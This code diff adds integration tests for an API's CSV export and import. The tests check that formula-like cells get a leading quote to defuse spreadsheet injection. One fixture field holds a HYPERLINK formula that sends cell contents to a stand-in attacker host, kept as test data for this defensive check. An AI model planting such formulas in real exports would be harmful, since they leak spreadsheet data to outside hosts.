@@ -1,4 +1,5 @@
 import { gzipSync } from 'node:zlib';
+import { parse } from 'csv-parse/sync';
 import type { Kysely } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { scheduledJobs } from '../../src/compose.js';
@@ -367,6 +368,119 @@ describe('import jobs of every resource', () => {
         expect(job.rowsTotal).toBeGreaterThan(1);
       }
     }
+  });
+});
+
+describe('formulas in CSV files (docs/api.md#formulas-in-csv-files)', () => {
+  const risky = [
+    {
+      email: 'formula@example.com',
+      firstName: '=HYPERLINK("http://evil.invalid/?x="&A1,"c")',
+      lastName: '+SUM(1,2)',
+      notes: '-5',
+      phone: '+4915112345678',
+      metadata: { at: '@x', tab: '\tindented', cr: '\rreturn', negativeText: '-5', plain: 'ok' },
+      tags: ['@vip', 'plain'],
+    },
+    {
+      email: 'quoted@example.com',
+      firstName: "'=1+1",
+      lastName: "'already quoted",
+      notes: "''@twice",
+      metadata: { quote: "'", quotedTab: "'\tx" },
+    },
+  ];
+  const fields = (customer: Record<string, any>) => ({
+    email: customer.email,
+    firstName: customer.firstName,
+    lastName: customer.lastName,
+    notes: customer.notes,
+    phone: customer.phone ?? null,
+    metadata: customer.metadata,
+    tags: customer.tags ?? [],
+  });
+  const customersOf = async (tenant: Tenant) => {
+    const response = await t.request({ url: '/v1/customers?include=tags&sort=email&limit=250', key: tenant.key });
+    expect(response.statusCode, response.body).toBe(200);
+    return response.json<{ data: Record<string, any>[] }>().data.map(fields);
+  };
+  const exported = async (tenant: Tenant, body: Record<string, unknown>) => {
+    const job = await send(tenant, '/v1/export-jobs', body, 202);
+    await runQueued(db(), EXPORT_JOB_NAME);
+    const file = await t.request({
+      url: `/v1/export-jobs/${job.id}/download`,
+      key: tenant.key,
+      headers: { 'accept-encoding': 'identity' },
+    });
+    expect(file.statusCode, file.body).toBe(200);
+    return file.body;
+  };
+
+  it('quotes formula-like text in exports (in the database and in Node), leaves numbers alone, and re-imports unchanged', async () => {
+    const source = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
+    await send(source, '/v1/customers/import', { data: risky });
+    const original = await customersOf(source);
+    expect(original).toEqual(risky.map((customer) => fields(customer)));
+
+    // Without an extra the database writes the lines; with tags, Node does: both neutralise the same cells.
+    for (const include of [undefined, 'tags']) {
+      const csv = await exported(source, {
+        resource: 'customers',
+        format: 'csv',
+        sort: 'email',
+        ...(include ? { include } : {}),
+      });
+      const rows = parse(csv, { columns: true }) as Record<string, string>[];
+      const formula = rows.find((row) => row.email === 'formula@example.com')!;
+      expect(formula.firstName).toBe(`'${risky[0]!.firstName}`);
+      expect(formula.lastName).toBe("'+SUM(1,2)");
+      expect(formula.notes).toBe("'-5");
+      expect(formula.phone).toBe("'+4915112345678");
+      expect(formula['metadata.at']).toBe("'@x");
+      expect(formula['metadata.tab']).toBe("'\tindented");
+      expect(formula['metadata.cr']).toBe("'\rreturn");
+      expect(formula['metadata.negativeText']).toBe("'-5");
+      expect(formula['metadata.plain']).toBe('ok');
+      if (include) expect(formula.tags).toBe("'@vip|plain");
+      const quoted = rows.find((row) => row.email === 'quoted@example.com')!;
+      expect(quoted.firstName).toBe("''=1+1");
+      expect(quoted.lastName).toBe("'already quoted");
+      expect(quoted.notes).toBe("'''@twice");
+      expect(quoted['metadata.quote']).toBe("'");
+      expect(quoted['metadata.quotedTab']).toBe("''\tx");
+      // No text cell a spreadsheet would take for a formula is left without the quote.
+      for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+
+      const again = await imported(source, 'resource=customers', csv);
+      expect(again).toMatchObject({ status: 'succeeded', created: 0, updated: 0, skipped: 0, unchanged: 2 });
+      const elsewhere = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
+      const copied = await imported(elsewhere, 'resource=customers', csv);
+      expect(copied).toMatchObject({ status: 'succeeded', created: 2, skipped: 0 });
+      const expected = include ? original : original.map((customer) => ({ ...customer, tags: [] }));
+      expect(await customersOf(elsewhere)).toEqual(expected);
+    }
+    expect(await customersOf(source)).toEqual(original);
+  });
+
+  it('writes numbers as numbers: a negative points movement is not quoted', async () => {
+    const source = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
+    await send(source, '/v1/customers/import', { data: [{ email: 'member@example.com' }] });
+    const memberships = await imported(
+      source,
+      'resource=loyalty-memberships',
+      'customer,pointsBalance\nmember@example.com,40\n',
+    );
+    expect(memberships).toMatchObject({ status: 'succeeded', created: 1 });
+    const history = await imported(
+      source,
+      'resource=loyalty-history',
+      'customer,kind,points,createdAt,key\nmember@example.com,adjusted,-5,2026-01-01T00:00:00Z,h-1\n',
+    );
+    expect(history).toMatchObject({ status: 'succeeded', created: 1, skipped: 0 });
+    const rows = parse(await exported(source, { resource: 'loyalty-activity', format: 'csv' }), {
+      columns: true,
+    }) as Record<string, string>[];
+    expect(rows.map((row) => row.points)).toContain('-5');
   });
 });
 
